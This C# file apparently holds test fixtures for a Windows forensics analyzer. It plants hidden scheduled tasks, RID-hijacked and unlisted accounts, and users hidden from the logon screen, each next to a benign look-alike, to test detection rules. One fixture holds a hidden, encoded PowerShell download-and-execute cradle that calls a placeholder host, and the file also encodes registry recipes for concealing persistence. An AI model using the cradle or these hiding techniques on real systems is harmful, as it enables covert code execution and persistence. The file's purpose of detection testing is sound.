using Forensics.Analyzer.Risk;
using Forensics.Parsers.Tests.Formats.Registry;
using static Forensics.Analyzer.Tests.Detection.WindowsBaseHost;
using static Forensics.Analyzer.Tests.Detection.WindowsStockHives;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>What hides on Windows: tasks that lists leave out, accounts with another's rights or without a name, users that the logon screen leaves out.</summary>
internal static class WindowsHiddenPlants
{
    private const string Tasks = "W-TASK-HIDDEN";
    private const string Account = "W-ACCOUNT";
    private const string User = "W-HIDEUSER";
    private const string Host = @"C:\ProgramData\Vendor\host.exe";

    private static readonly string s_cradle = "-nop -w hidden -enc " + WindowsTaskPlants.Encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/w')");
    private static readonly PlantedPe s_signed = new() { Seed = "vendor", IsSigned = true };

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new(Tasks, "loud-no-descriptor", PlantKind.Loud, tree => Hives(Task(tree, "WinUpdate", Exec("powershell.exe", s_cradle), principal: "S-1-5-18"), software: hive => Remove(TreeKey(hive, "WinUpdate"), "SD"))) { Rule = "no-descriptor", AtLeast = Severity.Critical },
            new(Tasks, "quiet-no-descriptor", PlantKind.Quiet, tree => Hives(Miner(tree), software: hive => Remove(TreeKey(hive, "Vendor"), "SD"))) { Rule = "no-descriptor", AtLeast = Severity.Critical, Entries = [Software] },
            new(Tasks, "quiet-registry-only", PlantKind.Quiet, tree => Hives(Vendor(tree), software: hive => Register(hive, "Vendor", true, ExecAction(Host)))) { Rule = "no-file", Entries = [Software] },
            new(Tasks, "quiet-other-actions", PlantKind.Quiet, tree => Hives(Vendor(tree), software: hive => Act(hive, @"Microsoft\Windows\Defrag\ScheduledDefrag", ExecAction(Host)))) { Rule = "other-actions", Entries = [Software] },
            new(Tasks, "quiet-index-zero", PlantKind.Quiet, tree => Hives(Miner(tree), software: hive => ReplaceNumber(TreeKey(hive, "Vendor"), "Index", 0))) { Rule = "index-zero", Entries = [Software] },
            new(Tasks, "quiet-denied", PlantKind.Quiet, tree => Hives(Miner(tree), software: hive => Describe(hive, "Vendor", Denying))) { Rule = "denied", Entries = [Software] },
            new(Tasks, "quiet-no-tree", PlantKind.Quiet, tree => Hives(Vendor(tree), software: hive => Orphan(hive, "Vendor", ExecAction(Host)))) { Rule = "no-tree", Entries = [Software] },
            new(Tasks, "quiet-not-registered", PlantKind.Quiet, tree => Task(Hives(Vendor(tree)), "Vendor", Exec(Host, ""), principal: "S-1-5-18")) { Rule = "not-registered", AtLeast = Severity.Medium, Entries = ["/Windows/System32/Tasks/Vendor"] },
            new(Tasks, "dormant-no-descriptor", PlantKind.Dormant, tree => Hives(Miner(tree, enabled: false), software: hive => Remove(TreeKey(hive, "Vendor"), "SD"))) { TwinOf = "quiet-no-descriptor" },
            new(Tasks, "dormant-registry-only", PlantKind.Dormant, tree => Hives(Vendor(tree), software: hive => Register(hive, "Vendor", false, ExecAction(Host)))) { TwinOf = "quiet-registry-only" },
            new(Tasks, "benign-stock", PlantKind.Benign, tree => Hives(tree)),
            new(Tasks, "benign-left-by-upgrade", PlantKind.Benign, tree => Hives(tree, software: hive => { Orphan(hive, "Gone"); Orphan(hive, @"Microsoft\Windows\Old\Job", ExecAction(@"%windir%\system32\oldjob.exe", "/run")); Orphan(hive, @"Microsoft\Windows\Old\Loader", ExecAction(@"%windir%\system32\rundll32.exe", "gone.dll,Run")); })),
            new(Tasks, "benign-vendor-in-registry-only", PlantKind.Benign, tree => Hives(tree.Pe("/Program Files/Vendor/agent.exe", s_signed), software: hive => Register(hive, "Vendor Agent", true, ExecAction(@"""C:\Program Files\Vendor\agent.exe""", "/update")))),
            new(Tasks, "benign-windows-7", PlantKind.Benign, tree => Hives(Task(tree.Pe("/ProgramData/Vendor/agent.exe", s_signed), "Agent", Exec(@"C:\ProgramData\Vendor\agent.exe", "")), software: hive => tree.Files.ToList().ForEach(file => Undescribed(hive, file.Path)))),
            new(Tasks, "benign-other-spelling", PlantKind.Benign, tree => Hives(Task(tree.Pe("/ProgramData/Vendor/agent.exe", s_signed), "Agent", Exec(@"%ProgramData%\Vendor\agent.exe", "/a  /b"), author: "Vendor"), software: hive => Act(hive, "Agent", ExecAction(@"""C:\PROGRAMDATA\Vendor\agent.exe""", "/a /b")))),
            new(Tasks, "benign-moved-by-update", PlantKind.Benign, tree => Hives(Task(tree.Pe("/Program Files/Vendor/2/agent.exe", s_signed), "Agent", Exec(@"C:\Program Files\Vendor\1\agent.exe", ""), author: "Vendor"), software: hive => Act(hive, "Agent", ExecAction(@"C:\Program Files\Vendor\2\agent.exe")))),
            new(Tasks, "benign-unreadable-hive", PlantKind.Benign, tree => Task(tree.Pe("/Program Files/Vendor/agent.exe", s_signed), "Agent", Exec(@"C:\Program Files\Vendor\agent.exe", ""), author: "Vendor")),

            new(Account, "quiet-rid-hijack", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "support", effective: 500))) { Rule = "rid-hijack", AtLeast = Severity.Critical, Entries = [SamFile] },
            new(Account, "quiet-guest-as-administrator", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 501, "Guest", effective: 500, late: false))) { Rule = "rid-hijack", AtLeast = Severity.Critical, Entries = [SamFile] },
            new(Account, "quiet-unlisted", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "support", listed: false), administrators: 1002)) { Rule = "unlisted", AtLeast = Severity.Critical, Entries = [SamFile] },
            new(Account, "quiet-name-only", PlantKind.Quiet, tree => Accounts(tree, hive => hive.Key(@"SAM\Domains\Account\Users\Names\support").Value("", 1002, []))) { Rule = "no-record", Entries = [SamFile] },
            new(Account, "quiet-name-of-computer", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "admin$"), administrators: 1002)) { Rule = "dollar-name", Entries = [SamFile] },
            new(Account, "quiet-guest-enabled", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 501, "Guest", late: false))) { Rule = "built-in-enabled", AtLeast = Severity.Medium, Entries = [SamFile] },
            new(Account, "quiet-default-account-in-group", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 503, "DefaultAccount", late: false), administrators: 503)) { Rule = "built-in-enabled", Entries = [SamFile] },
            new(Account, "quiet-open-administrator", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "helpdesk", Normal | NoPassword), administrators: 1002)) { Rule = "new-administrator", AtLeast = Severity.Medium, Entries = [SamFile] },
            new(Account, "dormant-rid-hijack", PlantKind.Dormant, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "support", Normal | Disabled, effective: 500))) { TwinOf = "quiet-rid-hijack" },
            new(Account, "dormant-name-of-computer", PlantKind.Dormant, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "admin$", Normal | Disabled), administrators: 1002)) { TwinOf = "quiet-name-of-computer" },
            new(Account, "benign-stock", PlantKind.Benign, tree => Accounts(tree)),
            new(Account, "benign-new-administrator", PlantKind.Benign, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "bob"), administrators: 1002)),
            new(Account, "benign-cloud-image", PlantKind.Benign, tree => Accounts(tree, hive => { WindowsStockHives.Account(hive, 1002, "azureuser", late: false); WindowsStockHives.Account(hive, 1003, "cloudbase-init"); }, administrators: [1002, 1003])),
            new(Account, "benign-open-at-set-up", PlantKind.Benign, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "owner", Normal | NoPassword, late: false), administrators: 1002)),
            new(Account, "benign-home-group", PlantKind.Benign, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "HomeGroupUser$"))),
            new(Account, "benign-application-guard", PlantKind.Benign, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 504, "WDAGUtilityAccount", late: false))),

            new(User, "quiet-administrator", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "support"), Hide("support"), 1002)) { Entries = [Software, SamFile] },
            new(User, "quiet-user", PlantKind.Quiet, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "support"), Hide("support"))) { AtLeast = Severity.Medium, Entries = [Software, SamFile] },
            new(User, "dormant-administrator", PlantKind.Dormant, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "support", Normal | Disabled), Hide("support"), 1002)) { TwinOf = "quiet-administrator" },
            new(User, "benign-no-such-account", PlantKind.Benign, tree => Accounts(tree, software: Hide("svc_backup"))),
            new(User, "benign-service", PlantKind.Benign, tree => Accounts(tree, hive => WindowsStockHives.Account(hive, 1002, "QBDataServiceUser27"), Hide("QBDataServiceUser27"))),
            new(User, "benign-shown", PlantKind.Benign, tree => Accounts(tree, software: hive => UserList(hive).Number("alice", 1))),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    private static PlantTree Vendor(PlantTree tree) => tree.Pe("/ProgramData/Vendor/host.exe");

    private static PlantTree Miner(PlantTree tree, bool enabled = true) => Task(tree.Pe("/ProgramData/Vendor/host.exe", WindowsTaskPlants.Miner), "Vendor", Exec(Host, ""), principal: "S-1-5-18", enabled: enabled);

    private static void Act(RegistryHiveWriter hive, string name, byte[] action)
    {
        Remove(TreeKey(hive, name), "SD");
        Remove(TreeKey(hive, name), "Id");
        Remove(TreeKey(hive, name), "Index");
        TaskKey(hive, name).Values.Clear();
        Register(hive, name, true, action);
    }

    private static void Describe(RegistryHiveWriter hive, string name, byte[] descriptor)
    {
        Remove(TreeKey(hive, name), "SD");
        TreeKey(hive, name).Binary("SD", descriptor);
    }

    /// <summary>A task without its key of the tree; without actions when none is given.</summary>
    private static void Orphan(RegistryHiveWriter hive, string name, params byte[][] actions)
    {
        Register(hive, name, true, actions);
        TreeKey(hive, name).Values.Clear();
    }

    private static void Undescribed(RegistryHiveWriter hive, string path)
    {
        const string Store = "/Windows/System32/Tasks/";
        if (path.StartsWith(Store, StringComparison.Ordinal))
        {
            Remove(TreeKey(hive, path[Store.Length..].Replace('/', '\\')), "SD");
        }
    }

    private static Action<RegistryHiveWriter> Hide(string name) => hive => UserList(hive).Number(name, 0);

    private static WrittenKey UserList(RegistryHiveWriter hive) => hive.Key(Nt + @"Winlogon\SpecialAccounts\UserList");
}
